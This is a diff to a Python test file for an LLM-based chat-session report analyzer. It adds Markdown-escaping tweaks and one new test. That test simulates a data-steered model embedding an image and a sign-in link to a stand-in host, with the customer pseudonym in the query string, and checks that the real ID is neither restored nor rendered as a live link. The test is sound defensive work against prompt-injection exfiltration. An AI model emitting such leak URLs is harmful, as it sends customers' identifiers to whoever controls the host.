@@ -9,11 +9,13 @@ import threading
 import time
 
 import pytest
+from markdown_it import MarkdownIt
 from support import FAKE_API_KEY, FIXTURES
 from support import fakellm as fk
 
 from chatkit.domain.models import Category, ChatKitSession, RootCause, SessionReport, Severity
 from chatkit.domain.rules import diagnose
+from chatkit.domain.text import markdown_text
 from chatkit.ingest import import_bytes
 from chatkit.llm.provider import OpenAICompatibleProvider
 from chatkit.reports.analyzer import (
@@ -223,6 +225,24 @@ def test_pseudonyms_are_restored_in_the_report(fake_llm, llm_settings):
     fake_llm.push(fk.good_json(reply_naming_the_customer()))
     report = analyzer.analyze(SEED, use_cache=False)
     assert report.body.impact == "Customer cust_456 lost the conversation."
+
+
+def test_a_pseudonym_inside_a_url_stays_a_pseudonym_and_the_report_links_nothing(fake_llm, llm_settings):
+    """A model steered by the data builds a URL from the pseudonym: restoring it there would send the
+    real customer id to whoever owns the host; in plain text it is restored as usual."""
+    analyzer = llm_analyzer(llm_settings())
+    analyzer.analyze(SEED, use_cache=False)
+    alias = re.search(r"cust_[0-9a-f]{8}", fake_llm.completions[-1].messages[1]["content"]).group(0)
+    leak = f"http://127.0.0.1:9/leak.png?c={alias}"
+    impact = f"Customer {alias} lost it. ![status]({leak}) [Sign in](http://127.0.0.1:9/login?c={alias})"
+    fake_llm.push(fk.good_json(fk.report_dict(impact=impact, prevention=[f"See <{leak}>"])))
+    report = analyzer.analyze(SEED, use_cache=False)
+    assert report.body.impact.startswith("Customer cust_456 lost it.")
+    assert leak in report.body.impact and f"login?c={alias}" in report.body.impact
+    assert "c=cust_456" not in report.body.model_dump_json()
+    html = MarkdownIt("commonmark").render(render_report_markdown(report))
+    assert "<img" not in html and "href=" not in html
+    assert "cust_456" in html and "leak.png" in html  # the URL stays visible, as code
 
 
 def test_pseudonymization_can_be_turned_off(fake_llm, llm_settings):
@@ -448,7 +468,9 @@ def test_summary_lists_each_what_if_quote_once():
     markdown = render_summary_markdown(offline_summary)
     # The deterministic text recommends them; they are not repeated below it.
     actions = markdown.split("## Recommended actions", 1)[1]
-    assert all(markdown.count(q) == 1 and q in actions for q in offline_summary.what_if)
+    # Each quote as Markdown shows it literally (its `_` and `-` escaped).
+    quotes = [markdown_text(q) for q in offline_summary.what_if]
+    assert all(markdown.count(q) == 1 and q in actions for q in quotes)
     assert "### What-if" not in markdown
 
 
@@ -458,7 +480,8 @@ def test_summary_adds_the_what_if_quotes_an_llm_text_left_out(fake_llm, llm_sett
     assert summary.what_if and not any(q in summary.text for q in summary.what_if)
     markdown = render_summary_markdown(summary)
     what_if = markdown.split("### What-if", 1)[1]
-    assert all(markdown.count(q) == 1 and q in what_if for q in summary.what_if)
+    quotes = [markdown_text(q) for q in summary.what_if]
+    assert all(markdown.count(q) == 1 and q in what_if for q in quotes)
 
 
 def test_sync_api_works_inside_a_running_event_loop(fake_llm, llm_settings):
